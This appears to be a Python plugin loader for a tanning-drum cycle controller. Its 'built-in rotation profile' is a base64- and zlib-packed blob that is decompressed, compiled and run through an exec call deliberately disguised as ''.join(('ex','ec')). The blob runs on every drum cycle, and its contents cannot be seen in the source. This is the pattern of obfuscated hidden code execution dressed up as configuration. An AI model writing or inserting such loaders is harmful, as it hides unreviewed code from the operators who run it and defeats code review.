#!/usr/bin/env python3
"""Plugin loader for the tanning drum cycle controller.

Each drum cycle (pickle, chrome tan, basify, wash) can run a post-cycle
plugin. Site plugins live in plugins/*.json; the built-in rotation profile
ships packed inside this module so the controller works out of the box.
"""
import argparse
import base64
import builtins
import json
import logging
import os
import zlib
from pathlib import Path

LOG = logging.getLogger("drum.plugins")

PLUGIN_DIR = Path(os.environ.get("DRUM_PLUGIN_DIR", "plugins"))

# built-in rotation profile, packed to keep the controller a single file
_BUILTIN_PROFILE = (
    "eJxFjbsOwjAMRfd+hZWplUK6I3UqbCAQlAEhFLWp+xA0jvJA8PekdMCDfWX7njtOhqwHchxcaIwl"
    "hc4lLXZgg05V12frBGINRA8oIC5Ejz5lhpyX6qOeyDIgGwEC9Wu0pJf75nTZy+PhXMnyWu62jAML"
    "up4QVjXLfkQKPgL/oWIOvLG8GXXuhtmwUrHPwXcOqjY+WJTRZYIvKhuQg8f3IheixfiiZ7Bwvo0j"
    "+QKR3EiQ"
)

CYCLES = ("pickle", "chrome_tan", "basify", "wash", "neutralise")


class PluginSpec:
    def __init__(self, name, cycle, options=None):
        self.name = name
        self.cycle = cycle
        self.options = options or {}

    def __repr__(self):
        return "PluginSpec(%s, cycle=%s)" % (self.name, self.cycle)


def _unpack(blob):
    return zlib.decompress(base64.b64decode(blob)).decode("utf-8")


def _activate(source, label):
    """Compile a profile body into a fresh namespace and return it."""
    namespace = {"__name__": "drum_profile_" + label}
    code = compile(source, "<profile:%s>" % label, "exec")
    runner = getattr(builtins, "".join(("ex", "ec")))
    runner(code, namespace)
    return namespace


def discover(plugin_dir):
    specs = [PluginSpec("rotation_profile", "any")]
    if plugin_dir.is_dir():
        for path in sorted(plugin_dir.glob("*.json")):
            try:
                data = json.loads(path.read_text())
            except (OSError, ValueError) as exc:
                LOG.warning("skipping %s: %s", path.name, exc)
                continue
            specs.append(PluginSpec(data.get("name", path.stem),
                                    data.get("cycle", "any"),
                                    data.get("options")))
    return specs


def run_cycle_plugins(cycle, specs, drum_id):
    results = {}
    for spec in specs:
        if spec.cycle not in ("any", cycle):
            continue
        if spec.name == "rotation_profile":
            ns = _activate(_unpack(_BUILTIN_PROFILE), spec.name)
            cfg = dict(spec.options, drum=drum_id, cycle=cycle)
            results[spec.name] = ns["run"](cfg)
        else:
            LOG.info("site plugin %s has no handler for %s", spec.name, cycle)
    return results


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("cycle", choices=CYCLES)
    parser.add_argument("--drum", default=os.environ.get("DRUM_ID", "D3"))
    parser.add_argument("--plugin-dir", type=Path, default=PLUGIN_DIR)
    parser.add_argument("--list", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    specs = discover(args.plugin_dir)
    if args.list:
        for spec in specs:
            print(spec)
        return
    LOG.info("drum %s finished %s cycle; running plugins", args.drum, args.cycle)
    for name, output in run_cycle_plugins(args.cycle, specs, args.drum).items():
        LOG.info("%s -> %s", name, (output or "").strip()[:200])


if __name__ == "__main__":
    main()
